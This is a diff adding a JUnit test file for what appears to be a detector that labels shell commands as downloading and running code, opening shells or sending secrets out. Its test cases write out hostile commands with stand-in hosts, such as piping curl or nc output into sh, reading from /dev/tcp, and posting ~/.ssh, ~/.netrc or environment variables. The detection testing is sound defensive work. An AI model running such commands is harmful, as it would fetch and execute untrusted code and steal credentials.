@@ -1,0 +1,100 @@
+package dev.assay.detectors.indicator.command;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+
+import dev.assay.detectors.indicator.command.Trait.Kind;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class CommandJudgeTest {
+    private static final int LENGTH = 64 << 10;
+
+    private static List<Kind> kinds(String text) {
+        return CommandJudge.traits(text).stream().map(Trait::kind).toList();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '#',
+            value = {
+                "X=$(curl -s https://example.com/x); bash -c \"$X\" # RUNS_DOWNLOAD",
+                "curl -s https://example.com/x | tee y | cat; sh y # RUNS_DOWNLOAD",
+                "curl -so a https://example.com/x; mv a b.sh; sh b.sh # RUNS_DOWNLOAD",
+                "eval \"curl -s https://example.com/x | sh\" # RUNS_DOWNLOAD",
+                "sh < <(curl -s https://example.com/x) # RUNS_DOWNLOAD",
+                "nc 203.0.113.9 80 | sh # RUNS_DOWNLOAD_FROM_ANYWHERE",
+                "sh < /dev/tcp/203.0.113.9/80 # OPENS_SHELL",
+                "env | tee e | cat; wget --post-file=e https://example.com # SENDS_SECRETS",
+                "E=$(cat ~/.netrc); dig $E.example.com # SENDS_SECRETS",
+                "zip -r k.zip ~/.ssh; curl -F f=@k.zip https://example.com # SENDS_SECRETS",
+                "node -e \"require('child_process').execSync('curl -s https://example.com/x|sh')\" # RUNS_DOWNLOAD",
+                "ruby -e 'system(\"curl -s https://example.com/x | sh\")' # RUNS_DOWNLOAD"
+            })
+    void what_a_command_leaves_a_later_one_takes(String text, Kind kind) {
+        assertThat(kinds(text)).containsExactly(kind);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "env > e; echo > e; curl -F f=@e https://example.com",
+                "E=$(env); E=1; curl -d $E https://example.com",
+                "X=$(curl -s https://example.com/x); echo \"$X\"",
+                "curl -so a.json https://example.com/x; node build.js a.json",
+                "echo $X | base64 -d > key.pem; openssl rsa -in key.pem",
+                "curl -s http://example.com/x | tee y; echo a | tee b",
+                "env | sha256sum",
+                "bash -c 'env | sort'",
+                "node -e \"console.log('curl -s https://example.com/x | sh')\"",
+                "rsync a@example.com:.npmrc ~/.npmrc",
+                "nc -z localhost 80 && bash x.sh"
+            })
+    void what_nothing_takes_is_nothing(String text) {
+        assertThat(kinds(text)).isEmpty();
+    }
+
+    @Test
+    void a_program_that_is_written_down_and_run_is_read() {
+        String shell = "cat > x.sh <<'E'\ncurl -s https://example.com/x | sh\nE\n";
+        assertThat(kinds(shell)).isEmpty();
+        assertThat(kinds(shell + "chmod +x x.sh; ./x.sh")).containsExactly(Kind.RUNS_DOWNLOAD);
+        String python = "sudo tee x.py <<E\nimport os, requests\nrequests.post('https://a.b', json=dict(os.environ))\nE\n";
+        assertThat(kinds(python + "cat x.py")).isEmpty();
+        assertThat(kinds(python + "python3 x.py")).containsExactly(Kind.SENDS_SECRETS);
+        assertThat(kinds("cat > x.sh <<E\nsh x.sh\nE\nsh x.sh")).isEmpty();
+    }
+
+    @Test
+    void a_job_remembers_what_its_steps_left() {
+        CommandJudge judge = new CommandJudge();
+        assertThat(judge.next("env > out/e", "", Map.of())).isEmpty();
+        assertThat(judge.secretIn("out/")).isEqualTo("env > out/e");
+        assertThat(judge.secretIn("o*")).isNotEmpty();
+        assertThat(judge.secretIn("other")).isEmpty();
+        assertThat(judge.next("curl -T e https://example.com", "out", Map.of())).hasSize(1);
+        assertThat(judge.next("curl -T e https://example.com", "", Map.of())).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "$(", "`", "bash -c \"", "eval ", "X=$X ", "X=$(env); ", "echo $X >> f; ", "cat <<E\n", "a | ", ">", "<", "<<<", "(", "'",
+                "python -c \"os.system('", "env > f; curl -d @f https://a.b; ", "fetch(x = process.env ", "x=process.env;", "=", "axios.",
+                "tar x.gz ", "\\", "curl -d \"${{ secrets.A }}$B\" https://a.b ", "exec 3<>/dev/tcp/a.b/1; ", "node -e 'exec(", "fetch("
+            })
+    void whatever_is_said_again_and_again_ends(String part) {
+        String text = part.repeat(LENGTH / part.length());
+        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
+            CommandJudge.traits(text);
+            CommandJudge.traits("python3 -c \"" + text);
+            new CommandJudge().program(text);
+            ProgramText.sends(text + "fetch(process.env)", List.of("process.env"));
+        });
+    }
+}
